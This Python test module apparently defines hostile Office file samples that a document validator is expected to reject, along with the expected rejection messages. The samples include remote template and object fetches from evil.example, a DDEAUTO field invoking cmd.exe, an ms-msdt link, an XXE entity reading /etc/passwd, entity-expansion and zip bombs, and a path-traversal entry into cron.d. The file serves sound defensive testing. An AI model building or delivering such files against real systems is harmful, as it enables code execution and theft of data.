"""Office files that mean harm."""

import io
import zipfile
from functools import partial

from tests.resources import made_office as office
from tests.resources.harm import HTML, ZIP, Hostile
from tests.resources.made_office import EXTERNAL, body, changed, deck, field, related, word


def _archived(**parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _crowd(names, content=b"x"):
    return lambda: changed(word(), more=dict.fromkeys(names, content))


OFFICE = [
    Hostile("macros", "a.docx", _crowd(["word/vbaProject.bin"]), "macros"),
    Hostile(
        "macros under a plain ending",
        "a.docx",
        lambda: changed(
            word(),
            {
                "[Content_Types].xml": (
                    "wordprocessingml.document.main+xml",
                    "wordprocessingml.document.macroEnabled.main+xml",
                )
            },
        ),
        "macros",
    ),
    Hostile("a macro document", "a.docm", word, "plain Word document"),
    Hostile("a macro presentation", "a.pptm", deck, "plain presentation"),
    Hostile("ActiveX", "a.docx", _crowd(["word/activeX/activeX1.bin"]), "macros or programs"),
    Hostile("object of another program", "a.docx", _crowd(["word/embeddings/oleObject1.bin"]), "another program"),
    Hostile("program as an object", "a.docx", _crowd(["word/embeddings/setup.exe"]), "programs"),
    Hostile(
        "template from elsewhere",
        "a.docx",
        partial(related, "attachedTemplate", "https://evil.example/a.dotm"),
        "from elsewhere",
    ),
    Hostile(
        "picture from elsewhere", "a.docx", partial(related, "image", "https://evil.example/seen.png"), "from elsewhere"
    ),
    Hostile(
        "frame from a share", "a.docx", partial(related, "frame", "\\\\\\\\evil\\\\share", EXTERNAL), "from elsewhere"
    ),
    Hostile(
        "object by a program's address",
        "a.docx",
        partial(related, "oleObject", "mhtml:http://evil.example!x", EXTERNAL),
        "from elsewhere",
    ),
    Hostile("web page inside", "a.docx", partial(related, "aFChunk", "chunk.html", ""), "another program"),
    Hostile("link that starts a program", "a.docx", partial(related, "hyperlink", "ms-msdt:/id"), "starts a program"),
    Hostile("link to a web page", "a.docx", partial(related, "hyperlink", "https://example.org")),
    Hostile("DDE field", "a.docx", partial(field, "DDEAUTO c:\\\\windows\\\\cmd.exe"), "DDE"),
    Hostile("field that includes", "a.docx", partial(field, 'INCLUDEPICTURE "https://evil.example/a"'), "fetches"),
    Hostile("script as words", "a.docx", partial(word, HTML.decode())),
    Hostile("a billion laughs", "a.docx", lambda: office.replaced("word/document.xml", office.laughs()), "entities"),
    Hostile(
        "entity from the disk",
        "a.docx",
        lambda: office.replaced("word/styles.xml", b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
        "entities",
    ),
    Hostile(
        "document type in UTF-16",
        "a.docx",
        lambda: office.replaced(
            "word/settings.xml",
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]><d>&x;</d>'.encode("utf-16"),
        ),
        "entities",
    ),
    Hostile("XML 100,000 deep", "a.docx", lambda: body("<w:p>" * 100_000), "damaged"),
    Hostile(
        "XML of 30,000 paragraphs",
        "a.docx",
        lambda: body("".join(f"<w:p><w:r><w:t>{n * n}</w:t></w:r></w:p>" for n in range(30_000))),
        "paragraphs and pictures; the most is 20,000",
    ),
    Hostile("archive that bursts", "a.docx", _crowd(["word/zz.xml"], b"\0" * 60_000_000), "far more than it should"),
    Hostile("entries on top of each other", "a.docx", office.overlapping, "far more than it should"),
    Hostile("6,000 parts", "a.docx", _crowd([f"word/{n}.xml" for n in range(6_000)]), "parts; the most is 5,000"),
    Hostile("part larger than it says", "a.docx", office.lying, "damaged"),
    Hostile("archive in the archive", "a.docx", _crowd(["word/more.zip"], ZIP), "another archive"),
    Hostile("parts that lead elsewhere", "a.docx", _crowd(["../../etc/cron.d/x"]), "lead elsewhere"),
    Hostile("two parts of one name", "a.docx", _crowd(["WORD/DOCUMENT.XML"]), "lead elsewhere"),
    Hostile("a part under a password", "a.docx", office.secret, "password"),
    Hostile("locked by Office", "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000, "locked Office"),
    Hostile("a program before it", "a.docx", lambda: b"MZ" + b"\x90" * 99 + word(), "a program"),
    Hostile("a web page behind it", "a.docx", lambda: word() + HTML, "behind the end"),
    Hostile("cut in the middle", "a.docx", lambda: word()[:9_000], "cut off"),
    Hostile(
        "an archive of other things", "a.docx", partial(_archived, **{"a.txt": "hello"}), "archive, not an Office file"
    ),
    Hostile("a presentation as Word", "a.docx", deck, "not what its ending"),
    Hostile(
        "button that runs a macro",
        "a.pptx",
        lambda: changed(
            deck(),
            {
                "ppt/slides/slide1.xml": (
                    "<a:rPr",
                    '<a:rPr><a:hlinkClick action="ppaction://macro?name=x"/></a:rPr><a:rPr',
                )
                if b"<a:rPr" in deck()
                else ("<a:t>", '<a:rPr><a:hlinkClick action="ppaction://macro?name=x"/></a:rPr><a:t>')
            },
        ),
        "macro",
    ),
    Hostile(
        "table with macros behind a chart",
        "a.pptx",
        lambda: changed(deck(), more={"ppt/embeddings/t.xlsx": _archived(**{"xl/vbaProject.bin": "x"})}),
        "macros",
    ),
    Hostile(
        "table behind a chart",
        "a.pptx",
        lambda: changed(deck(), more={"ppt/embeddings/t.xlsx": _archived(**{"xl/workbook.xml": "<a/>"})}),
    ),
]
